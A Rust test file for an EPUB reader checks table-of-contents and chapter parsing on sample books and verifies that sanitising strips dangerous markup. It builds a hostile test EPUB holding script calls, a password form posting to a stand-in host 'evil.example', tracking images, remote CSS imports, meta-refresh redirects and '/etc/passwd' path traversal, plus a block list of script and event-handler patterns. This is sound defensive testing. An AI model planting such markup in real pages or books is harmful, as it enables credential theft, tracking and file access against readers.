//! The EPUB reader on real books and on a hostile one built here.

use std::io::Write;
use std::path::PathBuf;

use carrel_formats::Limits;
use carrel_formats::reader::{EpubBook, resolve_href};

fn epub(rel: &str) -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/corpus/epub"
    ))
    .join(rel)
}

fn open(rel: &str) -> EpubBook {
    EpubBook::open(&epub(rel), &Limits::default()).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

/// Markup that must never survive sanitizing.
fn assert_inert(html: &str, what: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<style",
        "javascript:",
        " onclick",
        " onload",
        " onerror",
        " onmouseover",
    ] {
        assert!(!lower.contains(bad), "{bad} survives in {what}");
    }
}

#[test]
fn alice_spine_toc_and_chapters() {
    let mut book = open("gutenberg-via-cwa/alice_in_wonderland.epub");
    let spine = book.spine();
    assert_eq!(spine.len(), 15);
    assert_eq!(spine[0].index, 0);
    assert_eq!(spine[0].href, "OEBPS/wrap0000.html");
    assert!(
        spine
            .iter()
            .all(|s| s.href.starts_with("OEBPS/") && s.linear)
    );
    let toc = book.toc();
    let titles: Vec<&str> = toc.iter().map(|t| t.title.as_str()).collect();
    assert!(
        titles.contains(&"CHAPTER I. Down the Rabbit-Hole"),
        "{titles:?}"
    );
    assert!(
        titles.contains(&"CHAPTER XII. Alice’s Evidence"),
        "{titles:?}"
    );
    let ch1 = toc
        .iter()
        .find(|t| t.title == "CHAPTER I. Down the Rabbit-Hole")
        .unwrap();
    assert_eq!(
        ch1.href,
        "OEBPS/3024803926727201407_11-h-1.htm.html#pgepubid00003"
    );
    assert_eq!(ch1.depth, 0);
    // Every entry points into the spine.
    for t in &toc {
        let path = t.href.split('#').next().unwrap();
        assert!(spine.iter().any(|s| s.href == path), "{}", t.href);
    }

    // The chapter the toc entry points to.
    let index = spine
        .iter()
        .position(|s| ch1.href.starts_with(&s.href))
        .unwrap();
    let chapter = book.chapter(index).unwrap();
    assert!(
        chapter
            .body_html
            .contains("Alice was beginning to get very tired")
    );
    assert!(
        chapter.body_html.contains(r#"id="pgepubid00003""#),
        "anchors are kept"
    );
    assert_eq!(chapter.stylesheets, ["OEBPS/0.css", "OEBPS/pgepub.css"]);
    assert!(chapter.title.is_some());
    assert_inert(&chapter.body_html, "Alice");

    // The cover page: a relative image reference, kept as written.
    let cover = book.chapter(0).unwrap();
    assert!(
        cover
            .body_html
            .contains(r#"src="7472141559003928249_cover.jpg""#),
        "{}",
        cover.body_html
    );
    let src = resolve_href(&spine[0].href, "7472141559003928249_cover.jpg").unwrap();
    let (bytes, media_type) = book.resource(&src).unwrap();
    assert_eq!(media_type, "image/jpeg");
    assert_eq!(bytes.len(), 104_775);

    // Stylesheets come back as CSS; documents, escapes and URLs are refused.
    let (css, media_type) = book.resource("OEBPS/pgepub.css").unwrap();
    assert_eq!(media_type, "text/css");
    assert!(String::from_utf8(css).unwrap().contains('{'));
    assert_eq!(
        book.resource(&spine[1].href).unwrap_err().code(),
        "forbidden"
    );
    assert_eq!(
        book.resource("OEBPS/content.opf").unwrap_err().code(),
        "forbidden"
    );
    assert_eq!(
        book.resource("META-INF/container.xml").unwrap_err().code(),
        "forbidden"
    );
    assert_eq!(
        book.resource("OEBPS/../../etc/passwd").unwrap_err().code(),
        "bad_path"
    );
    assert_eq!(book.resource("../x.jpg").unwrap_err().code(), "bad_path");
    assert_eq!(
        book.resource("http://example.org/a.jpg")
            .unwrap_err()
            .code(),
        "bad_path"
    );
    assert_eq!(
        book.resource("OEBPS/missing.jpg").unwrap_err().code(),
        "not_found"
    );
    assert_eq!(book.chapter(15).unwrap_err().code(), "not_found");
}

#[test]
fn chapter_counts() {
    for (rel, spine, toc_at_least) in [
        ("stump/book.epub", 15, 12),
        ("idpf-epub3-samples/wasteland.epub", 1, 6),
        ("idpf-epub3-samples/georgia-cfi.epub", 2, 10),
        ("idpf-epub3-samples/svg-in-spine.epub", 6, 3),
        (
            "standard-ebooks/arthur-conan-doyle_the-adventures-of-sherlock-holmes.epub",
            16,
            19,
        ),
        (
            "standard-ebooks/p-g-wodehouse_love-among-the-chickens.epub",
            29,
            29,
        ),
    ] {
        let mut book = open(rel);
        assert_eq!(book.spine().len(), spine, "{rel}");
        assert!(
            book.toc().len() >= toc_at_least,
            "{rel}: {}",
            book.toc().len()
        );
        for i in 0..spine {
            let c = book
                .chapter(i)
                .unwrap_or_else(|e| panic!("{rel} #{i}: {e}"));
            assert_inert(&c.body_html, rel);
        }
    }
}

#[test]
fn epub3_navigation_documents() {
    let book = open("standard-ebooks/arthur-conan-doyle_the-adventures-of-sherlock-holmes.epub");
    let toc = book.toc();
    assert_eq!(toc[0].title, "Titlepage");
    assert_eq!(toc[0].href, "epub/text/titlepage.xhtml");
    let scandal = toc
        .iter()
        .position(|t| t.title == "A Scandal in Bohemia")
        .unwrap();
    assert_eq!(toc[scandal].depth, 0);
    assert_eq!(toc[scandal + 1].depth, 1);
    assert_eq!(
        toc[scandal + 1].href,
        "epub/text/a-scandal-in-bohemia.xhtml#a-scandal-in-bohemia-1"
    );
    let wasteland = open("idpf-epub3-samples/wasteland.epub");
    let titles: Vec<String> = wasteland.toc().into_iter().map(|t| t.title).collect();
    assert_eq!(titles[0], "I. THE BURIAL OF THE DEAD");
    assert_eq!(titles[4], "V. WHAT THE THUNDER SAID");
}

#[test]
fn scripted_samples_are_inert() {
    for rel in [
        "idpf-epub3-samples/quiz-bindings.epub",
        "idpf-epub3-samples/figure-gallery-bindings.epub",
        "idpf-epub3-samples/trees.epub",
        "idpf-epub3-samples/childrens-literature.epub",
    ] {
        let mut book = open(rel);
        for i in 0..book.spine().len() {
            let c = book.chapter(i).unwrap();
            assert_inert(&c.body_html, rel);
            assert!(!c.inline_css.contains('<'), "{rel}");
        }
    }
    // The quiz's text survives without its <object>.
    let mut quiz = open("idpf-epub3-samples/quiz-bindings.epub");
    let c = quiz.chapter(0).unwrap();
    assert!(
        c.body_html
            .contains("What is the name given to planets like Jupiter and Neptune?")
    );
    // Scripts are not resources.
    assert_eq!(
        quiz.resource("EPUB/content/quiz/quiz.js")
            .unwrap_err()
            .code(),
        "forbidden"
    );
}

#[test]
fn images_keep_relative_references() {
    let mut book = open("idpf-epub3-samples/cole-voyage-of-life.epub");
    let spine = book.spine();
    let mut found = 0;
    for s in &spine {
        let c = book.chapter(s.index).unwrap();
        for part in c.body_html.split("<img ").skip(1) {
            let src = part
                .split("src=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap();
            assert!(!src.contains("://") && !src.starts_with('/'), "{src}");
            let href = resolve_href(&s.href, src).unwrap();
            let (bytes, media_type) = book.resource(&href).unwrap();
            assert!(
                media_type.starts_with("image/") && !bytes.is_empty(),
                "{href}"
            );
            found += 1;
        }
    }
    assert!(found >= 4, "{found}");
    // SVG spine items are shown through an <img> of themselves.
    let mut svg = open("idpf-epub3-samples/svg-in-spine.epub");
    let first = svg.spine()[0].clone();
    let c = svg.chapter(0).unwrap();
    assert!(
        c.body_html.contains("<img src=\"cover.svg\""),
        "{}",
        c.body_html
    );
    let (_, media_type) = svg
        .resource(&resolve_href(&first.href, "cover.svg").unwrap())
        .unwrap();
    assert_eq!(media_type, "image/svg+xml");
}

#[test]
fn a_hostile_book() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.epub");
    let mut w = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut add = |name: &str, body: &str| {
        w.start_file(name, stored).unwrap();
        w.write_all(body.as_bytes()).unwrap();
    };
    add("mimetype", "application/epub+zip");
    add(
        "META-INF/container.xml",
        r#"<container><rootfiles><rootfile full-path="OPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>"#,
    );
    add(
        "OPS/book.opf",
        r#"<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Bad</dc:title></metadata>
        <manifest><item id="c" href="text/c.xhtml" media-type="application/xhtml+xml"/><item id="n" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
        <item id="s" href="style.css" media-type="text/css"/><item id="i" href="img/a.png" media-type="image/png"/><item id="esc" href="../../outside.xhtml" media-type="application/xhtml+xml"/></manifest>
        <spine><itemref idref="c"/><itemref idref="esc"/><itemref idref="n" linear="no"/></spine></package>"#,
    );
    add(
        "OPS/nav.xhtml",
        r#"<html xmlns:epub="http://www.idpf.org/2007/ops"><body><nav epub:type="toc"><ol>
        <li><a href="text/c.xhtml#top">One &amp; only</a><ol><li><a href="text/c.xhtml#s2">Sub</a></li></ol></li>
        <li><a href="http://evil.example/">Away</a></li><li><a href="../../../etc/passwd">Up</a></li></ol></nav></body></html>"#,
    );
    add(
        "OPS/text/c.xhtml",
        r##"<?xml version="1.0"?><html><head><title>Trap</title><link rel="stylesheet" href="../style.css"/>
        <script>steal()</script><style>@import url(http://evil.example/x.css); p { color: red; background: url(http://evil.example/t.gif) }</style></head>
        <body onload="steal()"><h1 id="top">Hello</h1>
        <p onclick="steal()" style="position: fixed; color: blue">Click <a href="javascript:steal()">me</a> <a href="#s2">down</a></p>
        <script type="text/javascript">steal()</script><iframe src="http://evil.example/"/><object data="x.swf"/><embed src="x.swf"/>
        <form action="http://evil.example/"><input name="password"/></form>
        <img src="../img/a.png" alt="ok"/><img src="http://evil.example/track.gif"/><img src="data:image/png;base64,AAAA"/><img src="/etc/passwd"/>
        <svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script><a xlink:href="javascript:steal()"><text>x</text></a></svg>
        <h2 id="s2">Two</h2><meta http-equiv="refresh" content="0;url=http://evil.example/"/><base href="http://evil.example/"/></body></html>"##,
    );
    add(
        "OPS/style.css",
        "@import 'http://evil.example/a.css'; body { behavior: url(x.htc); margin: 1em }",
    );
    add("OPS/img/a.png", "not really a png");
    w.finish().unwrap();

    let mut book = EpubBook::open(&path, &Limits::default()).unwrap();
    // The item that leaves the book is not in the spine.
    let spine = book.spine();
    assert_eq!(spine.len(), 2);
    assert!(!spine[1].linear);
    let toc = book.toc();
    assert_eq!(toc.len(), 2, "{toc:?}");
    assert_eq!(
        (toc[0].title.as_str(), toc[0].href.as_str(), toc[0].depth),
        ("One & only", "OPS/text/c.xhtml#top", 0)
    );
    assert_eq!(
        (toc[1].href.as_str(), toc[1].depth),
        ("OPS/text/c.xhtml#s2", 1)
    );

    let c = book.chapter(0).unwrap();
    assert_eq!(c.title.as_deref(), Some("Trap"));
    assert_eq!(c.stylesheets, ["OPS/style.css"]);
    let html = &c.body_html;
    assert_inert(html, "the hostile chapter");
    for bad in [
        "steal",
        "evil",
        "fixed",
        "data:",
        "/etc/passwd",
        "<svg",
        "<meta",
        "<base",
        "password",
    ] {
        assert!(!html.contains(bad), "{bad} in {html}");
    }
    for good in [
        r#"<h1 id="top">Hello</h1>"#,
        r#"src="../img/a.png""#,
        r##"href="#s2""##,
        "color: blue;",
        "<h2 id=\"s2\">Two</h2>",
    ] {
        assert!(html.contains(good), "{good} missing from {html}");
    }
    assert!(c.inline_css.contains("color: red;"));
    assert!(!c.inline_css.contains("evil") && !c.inline_css.contains("@import"));
    let (css, _) = book.resource("OPS/style.css").unwrap();
    let css = String::from_utf8(css).unwrap();
    assert!(css.contains("margin: 1em;") && !css.contains("evil") && !css.contains("behavior"));
    // An image is served only as the type its bytes show: these are not an image.
    let err = book.resource("OPS/img/a.png").unwrap_err();
    assert!(
        matches!(err, carrel_formats::FormatError::BadImage(_)),
        "{err:?}"
    );
}
